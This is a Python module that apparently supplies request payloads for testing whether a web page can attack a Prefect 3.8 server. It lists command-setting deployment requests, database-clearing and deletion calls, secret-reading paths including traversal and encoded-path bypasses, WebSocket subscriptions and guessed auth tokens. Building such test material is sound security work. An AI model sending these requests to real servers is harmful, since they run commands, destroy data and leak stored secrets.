"""What a web page asks of a Prefect server: paths and bodies of Prefect 3.8's API.

Braces hold names and ids of objects on the attacked server, which the page is supposed
to know.
"""

from __future__ import annotations

from typing import Any

# In the name of everything that an attack makes.
MARK = "made-by-a-page"
COMMAND = "touch {stolen}"

CLIENT = "00000000-0000-4000-8000-00000000000a"

# Requests that change something, the destructive ones last.
COMMANDS: tuple[tuple[str, str, Any], ...] = (
    (
        "POST",
        "/deployments/",
        {
            "name": f"{MARK} {{origin}} {{way}}",
            "flow_id": "{flow}",
            "work_pool_name": "{pool}",
            "job_variables": {"command": COMMAND},
        },
    ),
    (
        "POST",
        "/deployments/{deployment}/create_flow_run",
        {"name": f"{MARK} {{origin}} {{way}}", "job_variables": {"command": COMMAND}},
    ),
    (
        "POST",
        "/flow_runs/",
        {"name": f"{MARK} {{origin}} {{way}}", "flow_id": "{flow}"},
    ),
    (
        "POST",
        "/flow_runs/{run}/set_state",
        {
            "state": {"type": "CANCELLED", "name": f"{MARK} {{origin}} {{way}}"},
            "force": True,
        },
    ),
    (
        "POST",
        "/block_documents/",
        {
            "name": f"{MARK}-{{number}}",
            "block_type_id": "{block_type}",
            "block_schema_id": "{block_schema}",
            "data": {"value": MARK},
        },
    ),
    (
        "POST",
        "/variables/",
        {"name": MARK.replace("-", "_") + "_{number}", "value": 1},
    ),
    ("POST", "/work_pools/", {"name": f"{MARK} {{origin}} {{way}}", "type": "process"}),
    (
        "POST",
        "/automations/",
        {
            "name": f"{MARK} {{origin}} {{way}}",
            "trigger": {
                "type": "event",
                "posture": "Reactive",
                "expect": ["prefect.flow-run.Completed"],
                "threshold": 1,
                "within": 0,
            },
            "actions": [{"type": "run-deployment", "deployment_id": "{deployment}"}],
        },
    ),
    (
        "POST",
        "/logs/",
        [
            {
                "name": MARK,
                "level": 20,
                "message": MARK,
                "timestamp": "2026-11-01T00:00:00Z",
                "flow_run_id": "{run}",
            }
        ],
    ),
    ("POST", "/artifacts/", {"key": MARK, "type": "markdown", "data": MARK}),
    (
        "POST",
        "/v2/concurrency_limits/",
        {"name": f"{MARK} {{origin}} {{way}}", "limit": 1},
    ),
    ("PUT", "/saved_searches/", {"name": f"{MARK} {{origin}} {{way}}", "filters": []}),
    (
        "PUT",
        "/admin/storage",
        {"default_result_storage_block_id": "{block}"},
    ),
    ("PATCH", "/deployments/{deployment}", {"job_variables": {"command": COMMAND}}),
    ("PATCH", "/flow_runs/{run}", {"name": MARK}),
    ("PATCH", "/work_pools/{pool}", {"description": MARK, "is_paused": True}),
    ("PATCH", "/block_documents/{block}", {"data": {"value": MARK}}),
    ("PATCH", "/variables/name/{variable}", {"value": MARK}),
    ("POST", "/admin/database/clear", {"confirm": True}),
    ("POST", "/flow_runs/bulk_delete", {"flow_runs": {"id": {"any_": ["{run}"]}}}),
    ("DELETE", "/deployments/{deployment}", None),
    ("DELETE", "/block_documents/{block}", None),
    ("DELETE", "/variables/name/{variable}", None),
    ("DELETE", "/flows/{flow}", None),
    ("DELETE", "/work_pools/{pool}", None),
)

# Paths that are read by GET.
READS = (
    "/block_documents/{block}?include_secrets=true",
    "/block_types/slug/secret/block_documents/name/{block_name}?include_secrets=true",
    "/variables/name/{variable}",
    "/flows/{flow}",
    "/flow_runs/{run}",
    "/deployments/{deployment}",
    "/work_pools/{pool}",
    "/artifacts/{artifact}",
    "/admin/settings",
    "/admin/version",
    f"/csrf-token?client={CLIENT}",
    "/logs/../block_documents/{block}?include_secrets=true",
    "/%62lock_documents/{block}?include_secrets=true",
    "/health/../block_documents/{block}?include_secrets=true",
)
# Paths that are read by POST.
FILTERS: dict[str, dict[str, Any]] = {
    "/block_documents/filter": {"include_secrets": True},
    "/variables/filter": {},
    "/flows/filter": {},
    "/flow_runs/filter": {},
    "/deployments/filter": {},
    "/logs/filter": {},
    "/artifacts/filter": {},
    "/work_pools/filter": {},
    "/events/filter": {},
    "/ui/flow_runs/history": {"sort": "EXPECTED_START_TIME_ASC"},
}

EVENT = {
    "occurred": "2026-11-01T00:00:00Z",
    "event": f"{MARK} {{origin}}",
    "resource": {"prefect.resource.id": MARK},
    "id": "{event}",
}
EVERYTHING = {
    "type": "filter",
    "backfill": True,
    "filter": {"occurred": {"since": "2020-01-01T00:00:00Z", "until": "{tomorrow}"}},
}
# What a page sends to the paths of WebSockets, after it has signed in or not.
SOCKETS: dict[str, Any] = {
    "/events/in": EVENT,
    "/events/out": EVERYTHING,
    "/logs/out": {"type": "filter", "filter": {}},
    "/task_runs/subscriptions/scheduled": {
        "type": "subscribe",
        "keys": ["a"],
        "client_id": MARK,
    },
}
# Few, because Chromium delays a page's connections after some that failed.
SIGN_IN: dict[str, tuple[list[str], list[Any]]] = {
    "without the protocol": ([], []),
    "without a token": (["prefect"], [{"type": "auth"}]),
    "null": (["prefect"], [{"type": "auth", "token": None}]),
    "empty": (["prefect"], [{"type": "auth", "token": ""}]),
    "guess": (["prefect"], [{"type": "auth", "token": "dev:dev"}]),
    "no sign-in": (["prefect"], []),
}
